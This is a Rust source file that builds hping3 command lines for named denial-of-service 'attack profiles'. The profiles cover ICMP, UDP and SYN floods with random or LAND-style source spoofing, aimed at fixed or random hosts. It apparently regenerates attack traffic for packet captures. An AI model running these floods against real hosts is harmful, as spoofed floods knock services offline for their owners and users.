use std::fmt::Write as _;
use std::net::Ipv4Addr;
use std::time::Duration;

use serde::{Deserialize, Serialize};

/// hping3 packet mode.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum FloodMode {
    /// ICMP echo (`-1`)
    Icmp,
    /// UDP (`-2`)
    Udp,
    /// TCP SYN (`-S`)
    Syn,
}

impl FloodMode {
    pub fn flag(self) -> &'static str {
        match self {
            FloodMode::Icmp => "-1",
            FloodMode::Udp => "-2",
            FloodMode::Syn => "-S",
        }
    }
}

/// Source-address spoofing strategy.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum SpoofSource {
    /// `--rand-source`
    Random,
    /// `-a <dst>`: source spoofed to equal the destination (LAND)
    Destination,
}

/// How the destination of a burst is chosen.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum Target {
    #[default]
    RandomHost,
    Fixed {
        ip: Ipv4Addr,
    },
}

/// One flood burst: a named attack pattern with fixed packet-crafting
/// parameters.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct AttackProfile {
    pub name: String,
    pub mode: FloodMode,
    #[serde(default = "default_data_bytes")]
    pub data_bytes: u32,
    #[serde(default = "default_win_bytes")]
    pub win_bytes: u32,
    #[serde(default)]
    pub dest_port: Option<u16>,
    pub spoof: SpoofSource,
    #[serde(default)]
    pub target: Target,
}

fn default_data_bytes() -> u32 {
    120
}

fn default_win_bytes() -> u32 {
    64
}

impl AttackProfile {
    /// Render the exact hping3 invocation for `dst`, bounded by `timeout`.
    ///
    /// The flag order matches the original capture scripts byte for byte.
    pub fn command(&self, dst: Ipv4Addr, timeout: Duration) -> String {
        let mut cmd = format!(
            "timeout {}s hping3 {} -V -d {} -w {}",
            timeout.as_secs(),
            self.mode.flag(),
            self.data_bytes,
            self.win_bytes
        );
        if let Some(port) = self.dest_port {
            let _ = write!(cmd, " -p {port}");
        }
        match self.spoof {
            SpoofSource::Random => cmd.push_str(" --rand-source --flood"),
            SpoofSource::Destination => {
                let _ = write!(cmd, " --flood -a {dst}");
            }
        }
        let _ = write!(cmd, " {dst}");
        cmd
    }
}
